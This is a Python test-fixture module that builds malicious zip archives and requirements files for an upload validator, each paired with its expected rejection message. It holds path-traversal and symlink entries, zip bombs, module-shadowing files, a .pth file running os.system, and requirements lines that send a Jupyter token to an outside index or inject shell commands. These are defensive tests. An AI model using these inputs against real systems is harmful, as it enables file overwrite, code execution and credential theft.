"""Archives of orchestrations: well-made ones, and zip files from hell, each made on the spot."""

from __future__ import annotations

import io
import os
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable

MAIN = ("main.py", b"print('done')\n")
LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
Entry = tuple[str | zipfile.ZipInfo, bytes]


def archive(*entries: Entry, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive of entries, exactly as they are named."""
    sink = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(sink, "w", compression) as made:
        warnings.simplefilter("ignore", UserWarning)  # of duplicate names
        for name, body in entries:
            made.writestr(name, body, compress_type=compression)
    return sink.getvalue()


def orchestration(requirements: str | None = None, *more: Entry) -> bytes:
    """An archive that is well: a script, and perhaps what it needs."""
    needed = [] if requirements is None else [("requirements.txt", requirements.encode())]
    return archive(MAIN, *needed, *more)


def with_mode(name: str, mode: int) -> zipfile.ZipInfo:
    """An entry of a kind and with bits that archives made on Unix have."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def changed(body: bytes, mark: bytes, place: int, value: bytes, *, last: bool = True) -> bytes:
    """An archive with other bytes at a place in its first or last record of a kind."""
    at = (body.rindex if last else body.index)(mark) + place
    return body[:at] + value + body[at + len(value) :]


def _flagged(body: bytes, bits: int) -> bytes:
    body = changed(body, LOCAL, 6, struct.pack("<H", bits))
    return changed(body, CENTRAL, 8, struct.pack("<H", bits))


def _size_lie(said: int) -> bytes:
    body = archive(MAIN, ("data", b"0123456789" * 1000))
    for mark, place in ((LOCAL, 22), (CENTRAL, 24)):
        body = changed(body, mark, place, struct.pack("<I", said))
    return body


def _overlapping(count: int) -> bytes:
    """Many names for the same bytes: a hundred megabytes in a few kilobytes."""
    body = archive(("main.py", b"#" * 2**20))
    at = body.index(CENTRAL)
    record = body[at : body.index(END)]
    records = b"".join(record.replace(b"main.py", b"m%06d" % number) for number in range(count)) + record
    end = struct.pack("<4s4H2LH", END, 0, 0, count + 1, count + 1, len(records), at, 0)
    return body[:at] + records + end


def _huge_directory() -> bytes:
    """A directory of 100,000 entries, of which the end says that it has two."""
    body = archive(MAIN)
    at = body.index(CENTRAL)
    record = body[at : body.index(END)]
    records = record * 100_000
    return body[:at] + records + struct.pack("<4s4H2LH", END, 0, 0, 2, 2, len(records), at, 0)


def _other_local_name() -> bytes:
    return archive(("other.py", b"1"), MAIN).replace(b"other.py", b"evil2.py", 1)


def _lzma_of_4_gib() -> bytes:
    body = archive(MAIN, ("data", b"x" * 1000), compression=zipfile.ZIP_LZMA)
    return changed(body, LOCAL, 30 + len("data") + 5, b"\xff\xff\xff\xff")


def _method(number: int) -> bytes:
    body = archive(MAIN, ("data", b"x" * 100), compression=zipfile.ZIP_STORED)
    body = changed(body, LOCAL, 8, struct.pack("<H", number))
    return changed(body, CENTRAL, 10, struct.pack("<H", number))


def _needs(text: str) -> Callable[[], bytes]:
    return lambda: orchestration(text)


def _beside(*entries: Entry, compression: int = zipfile.ZIP_DEFLATED) -> Callable[[], bytes]:
    return lambda: archive(MAIN, *entries, compression=compression)


_ESCAPES = {
    "slip": "../{marker}",
    "slip from a folder": "a/b/../../../{marker}",
    "slip far": "../../../../../../../../var/tmp/{marker}",
    "absolute": "/var/tmp/{marker}",  # noqa: S108
    "two slashes": "//var/tmp/{marker}",
    "backslashes": "..\\..\\{marker}",
    "drive": "C:/{marker}",
    "dot": "./{marker}",
    "empty part": "a//{marker}",
    "line break": "a\n{marker}",
    "right to left": "a\u202e{marker}",
    "too deep": "d/" * 32 + "{marker}",
    "too long": "{marker}" + "x" * 256,
}

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    # names that reach outside
    **{
        name: (lambda text=text: archive(MAIN, (text.format(marker=MARKER), b"out")), "no plain path")
        for name, text in _ESCAPES.items()
    },
    "nul": (lambda: archive(MAIN, ("evil.pyXtxt", b"1")).replace(b"evil.pyX", b"evil.py\0"), "no plain path"),
    "name that is no text": (
        lambda: _flagged(archive(MAIN, ("data-xx", b"1")), 0x800).replace(b"data-xx", b"data-\xff\xfe"),
        "not a zip archive",
    ),
    # what is no file
    "symlink": (_beside((with_mode("link", stat.S_IFLNK | 0o777), b"/etc/passwd")), "neither a file nor a folder"),
    "symlink to write through": (
        lambda: archive(MAIN, (with_mode("a", stat.S_IFLNK | 0o777), b"/tmp"), ("a/" + MARKER, b"out")),
        "neither a file nor a folder",
    ),
    "fifo": (_beside((with_mode("pipe", stat.S_IFIFO | 0o644), b"")), "neither a file nor a folder"),
    "character device": (_beside((with_mode("null", stat.S_IFCHR | 0o666), b"")), "neither a file nor a folder"),
    "block device": (_beside((with_mode("disk", stat.S_IFBLK | 0o666), b"")), "neither a file nor a folder"),
    "socket": (_beside((with_mode("socket", stat.S_IFSOCK | 0o666), b"")), "neither a file nor a folder"),
    "setuid": (_beside((with_mode("run", stat.S_IFREG | 0o4755), b"1")), "set-user-ID"),
    "setgid": (_beside((with_mode("run", stat.S_IFREG | 0o2755), b"1")), "set-user-ID"),
    # what cannot be read, or costs too much
    "encrypted": (lambda: _flagged(archive(MAIN, ("a", b"secret")), 1), "encrypted"),
    "bomb": (_beside(("zeros", bytes(40 * 2**20))), "unpacks to more than"),
    "bomb with ballast": (_beside(("noise", os.urandom(2**21)), ("zeros", bytes(205 * 2**20))), "unpacks to more than"),
    "bomb of many files": (
        _beside(*((f"{number}", bytes(2**20)) for number in range(40)), compression=zipfile.ZIP_BZIP2),
        "unpacks to more than",
    ),
    "bomb of another kind": (_beside(("zeros", bytes(40 * 2**20)), compression=zipfile.ZIP_LZMA), "unpacks to more"),
    "dictionary of 4 GiB": (_lzma_of_4_gib, "memory"),
    "overlap": (lambda: _overlapping(100), "overlap"),
    "too many entries": (_beside(*((f"{number}", b"") for number in range(2_000))), "at most 2000"),
    "huge directory": (_huge_directory, "directory is too large"),
    "duplicate": (_beside(("a", b"1"), ("a", b"2")), "twice"),
    "duplicate entry script": (_beside(MAIN), "twice"),
    "duplicate in another case": (_beside(("Data", b"1"), ("dATA", b"2")), "twice"),
    "duplicate in another form": (_beside(("é", b"1"), ("e\u0301", b"2")), "twice"),
    "file that is a folder": (_beside(("a", b"1"), ("a/b", b"2")), "as a file and as a folder"),
    "fewer bytes than there are": (lambda: _size_lie(10), "damaged"),
    "more bytes than there are": (lambda: _size_lie(3 * 2**30), "damaged"),
    "other name within": (_other_local_name, "damaged"),
    "wrong checksum": (lambda: changed(archive(MAIN, ("a", b"1")), CENTRAL, 16, bytes(4)), "damaged"),
    "bytes changed": (lambda: changed(archive(MAIN, ("a", bytes(range(256)))), LOCAL, 40, bytes(60)), "damaged"),
    "unknown compression": (lambda: _method(99), "damaged"),
    "cut off": (lambda: orchestration()[:-30], "not a zip archive"),
    "no archive": (lambda: b"#!/bin/sh\nid\n", "not a zip archive"),
    "tar": (lambda: b"main.py" + bytes(505) + bytes(1024), "not a zip archive"),
    "empty file": (lambda: b"", "is empty"),
    # what is missing, or too many
    "empty archive": (archive, "no 'main.py'"),
    "no script": (lambda: archive(("notes.py", b"1"), ("README.md", b"2")), "no 'main.py'"),
    "script of macOS only": (lambda: archive(("__MACOSX/main.py", b"1"), ("a.py", b"2")), "no 'main.py'"),
    "two requirements": (_beside(("requirements.txt", b""), ("a/requirements.txt", b"")), "expected at most one"),
    # what would be run or imported in place of something else
    "json.py": (_beside(("json.py", b"1")), "Python's own module 'json'"),
    "asyncio, a package": (_beside(("asyncio/__init__.py", b"1")), "Python's own module 'asyncio'"),
    "socket, compiled": (_beside(("socket.cpython-311-x86_64-linux-gnu.so", b"1")), "Python's own module 'socket'"),
    "json.py beside a nested script": (
        lambda: archive(("job/main.py", b"1"), ("job/json.pyc", b"2")),
        "Python's own module 'json'",
    ),
    "wallaroo.py": (_beside(("wallaroo.py", b"1")), "the client 'wallaroo'"),
    "jupyter_wallaroo": (_beside(("jupyter_wallaroo/__init__.py", b"1")), "the client 'jupyter_wallaroo'"),
    "sitecustomize.py": (_beside(("sitecustomize.py", b"1")), "when it starts"),
    "usercustomize.pyc in a folder": (_beside(("a/b/usercustomize.pyc", b"1")), "when it starts"),
    "sitecustomize, a package": (_beside(("sitecustomize/__init__.py", b"1")), "'sitecustomize'"),
    "a .pth file": (_beside(("lib/evil.pth", b"import os; os.system('id')\n")), "changes its path"),
    # requirements that are something else
    "index": (_needs("numpy\n--index-url http://${JUPYTER_TOKEN}@example.org/simple"), "line 2: the option"),
    "extra index": (_needs("--extra-index-url=http://example.org"), "line 1: the option '--extra-index-url'"),
    "trusted host": (_needs("--trusted-host example.org"), "'--trusted-host'"),
    "other file": (_needs("-r ../../etc/passwd"), "the option '-r'"),
    "constraints": (_needs("-chttp://example.org/c.txt"), "the option '-chttp://example.org/c.txt'"),
    "editable": (_needs("-e git+https://example.org/x#egg=x"), "the option '-e'"),
    "target": (_needs("--target=/tmp/x\nnumpy"), "'--target'"),
    "build options": (_needs('numpy --config-settings="x=y"'), "not a package with versions"),
    "address": (_needs("https://example.org/x.whl"), "not a package with versions"),
    "package at an address": (_needs("x @ https://example.org/x.whl"), "names a URL"),
    "path": (_needs("./evil.whl"), "not a package with versions"),
    "variable": (_needs("${PACKAGE}==1"), "not a package with versions"),
    "shell": (_needs("numpy; $(touch /tmp/x)"), "not a package with versions"),
    "hash": (_needs("numpy==1.0 --hash=sha256:00"), "not a package with versions"),
    "hidden line": (_needs("numpy\u2028--pre"), "all printable"),
    "going on": (_needs("numpy \\\n--index-url http://example.org"), "line 1"),
    "too many requirements": (_needs("\n".join(f"p{number}" for number in range(201))), "at most 200"),
    "requirements that are no text": (_beside(("requirements.txt", b"\xff\x00\x80numpy")), "is no text"),
    "requirements of 1 MiB": (_beside(("requirements.txt", b"# a\n" * 2**18)), "more than 262144 bytes"),
}
"""How each is made, and what its refusal says."""

MARKER = "from-hell"
"""What every name that reaches outside ends with."""
